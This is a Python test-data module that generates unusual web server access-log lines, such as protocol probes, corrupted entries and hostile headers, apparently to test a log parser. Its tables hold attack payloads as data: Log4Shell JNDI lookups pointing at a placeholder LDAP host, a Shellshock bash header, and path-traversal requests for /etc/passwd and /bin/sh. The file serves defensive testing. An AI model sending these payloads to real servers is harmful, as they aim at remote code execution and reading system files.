r"""Odd lines as real servers log them: probes, broken requests, hostile headers, damage to the file.

Escapes are those of Apache (``\"``, ``\xhh``), which nginx reads and writes alike.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from typing import NamedTuple

from w3ctools.core.synth.columns import write_line
from w3ctools.core.synth.line import Exchange, LineFormat, Visit
from w3ctools.core.timestamp import rfc3339

_LONG_URI_BYTES = 8_192
_NUL_BYTES = 512
#: The first quoted text of a line is its request.
_REQUEST = re.compile(r'"[^"]*"')


class Odd(NamedTuple):
    """An odd line, and what is true of it."""

    #: Without its end.
    line: str
    #: None: the line is no record.
    record: tuple[Visit, Exchange] | None = None
    #: Of a record; None where its request is none.
    method: str | None = None
    section: str | None = None
    #: Whether its time can be read.
    has_stamp: bool = True


class Junk:
    """Draws odd lines of a format from the seed's generator."""

    def __init__(self, line_format: LineFormat, rng: random.Random) -> None:
        self._format = line_format
        self._rng = rng
        self._kinds: list[Callable[[Visit, int], Odd]] = [_error_log, _ssh_banner, _nul_bytes]
        if line_format.is_clf:
            self._kinds += [
                *(self._broken_request(*request) for request in _BROKEN_REQUESTS),
                *(self._odd_request(*request) for request in _ODD_REQUESTS),
                *(self._odd_header(visit) for visit in _ODD_HEADERS),
                self._cut,
            ]

    def next(self, epoch_s: int) -> Odd:
        """The next odd line, written at the UTC second `epoch_s`."""
        client = f"203.0.113.{self._rng.getrandbits(8)}"
        return self._rng.choices(self._kinds)[0](Visit(client, None, None, None), epoch_s)

    def _write(self, visit: Visit, exchange: Exchange, epoch_s: int) -> str:
        return write_line(self._format, visit, exchange, epoch_s)

    def _broken_request(self, text: str, status: int, body_bytes: int) -> Callable[[Visit, int], Odd]:
        exchange = _exchange("GET", "/", status, body_bytes)

        def make(visit: Visit, epoch_s: int) -> Odd:
            line = self._write(visit, exchange, epoch_s)
            return Odd(_REQUEST.sub(lambda _: f'"{text}"', line, count=1), (visit, exchange))

        return make

    def _odd_request(
        self, method: str, target: str, status: int, section: str | None
    ) -> Callable[[Visit, int], Odd]:
        exchange = _exchange(method, target, status, 226)

        def make(visit: Visit, epoch_s: int) -> Odd:
            line = self._write(visit, exchange, epoch_s)
            request = f'"{method} {target} HTTP/1.1"'
            return Odd(_REQUEST.sub(lambda _: request, line, count=1), (visit, exchange), method, section)

        return make

    def _odd_header(self, odd: Visit) -> Callable[[Visit, int], Odd]:
        exchange = _exchange("GET", "/", 200, 5_120)

        def make(visit: Visit, epoch_s: int) -> Odd:
            visit = odd._replace(client=visit.client)
            section = f"{self._format.origin}/"
            return Odd(self._write(visit, exchange, epoch_s), (visit, exchange), "GET", section)

        return make

    def _cut(self, visit: Visit, epoch_s: int) -> Odd:
        """The disk was full: the line ends in its request."""
        line = self._write(visit, _exchange("GET", "/", 200, 5_120), epoch_s)
        return Odd(line[: line.index('"') + 4])


def _exchange(method: str, target: str, status: int, body_bytes: int) -> Exchange:
    return Exchange(method, target, "HTTP/1.1", status, body_bytes, 180, 200, 1_000)


def _error_log(visit: Visit, epoch_s: int) -> Odd:
    """A line of nginx's error log, which was given the same file."""
    stamp = (rfc3339(epoch_s) or "").replace("-", "/").replace("T", " ").rstrip("Z")
    return Odd(
        f'{stamp} [error] 4711#4711: *1 open() "/srv/favicon.ico" failed (2: No such file or directory), '
        f'client: {visit.client}, server: _, request: "GET /favicon.ico HTTP/1.1"',
        has_stamp=False,
    )


def _ssh_banner(visit: Visit, epoch_s: int) -> Odd:
    return Odd("SSH-2.0-Go", has_stamp=False)


def _nul_bytes(visit: Visit, epoch_s: int) -> Odd:
    """After a power failure: a block that was never written, and the end of a line that began in it."""
    return Odd("\0" * _NUL_BYTES + "illa/5.0", has_stamp=False)


#: What came was no request: text as logged, status, bytes of the body.
_BROKEN_REQUESTS = (
    (r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 400, 226),
    ("-", 408, 0),
    ("", 400, 0),
    (r"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400, 226),
)
#: Method, target, status, and the section that it is of.
_ODD_REQUESTS = (
    ("CONNECT", "mail.example.com:443", 405, None),
    ("OPTIONS", "*", 200, None),
    ("GET", "http://proxy-check.example/judge.php?x=/1", 404, "http://proxy-check.example/judge.php"),
    ("GET", "http://User:Secret@Proxy.Example:80/a/b", 403, "http://proxy.example/a"),
    ("GET", "//wp-includes/wlwmanifest.xml", 404, "/"),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, "/cgi-bin"),
    ("GET", "/..%2f..%2f..%2fetc%2fpasswd", 400, "/..%2f..%2f..%2fetc%2fpasswd"),
    ("GET", "/../../etc/passwd", 400, "/.."),
    ("PROPFIND", "/", 405, "/"),
    ("GET", f"/search?q={'A' * _LONG_URI_BYTES}", 414, "/search"),
)
#: Of these the client is another one each time.
_ODD_HEADERS = (
    Visit("", None, None, "${jndi:ldap://203.0.113.99:1389/a}"),
    Visit("", None, "${${lower:j}ndi:dns://x.example/b}", "Mozilla/5.0"),
    Visit("", None, None, r"Mozilla/5.0 \"quoted\" C:\\Program Files\\x"),
    Visit("", None, r"https://shop.example/?q=\"tent\"", "Mozilla/5.0"),
    Visit("", None, None, "Mozilla/5.0 (Büro; 日本語) Cafe\N{COMBINING ACUTE ACCENT}"),
    Visit("", None, None, r"\x1b[31mred\x1b[0m"),
    Visit("", None, None, "() { :; }; /bin/bash -c 'id'"),
)
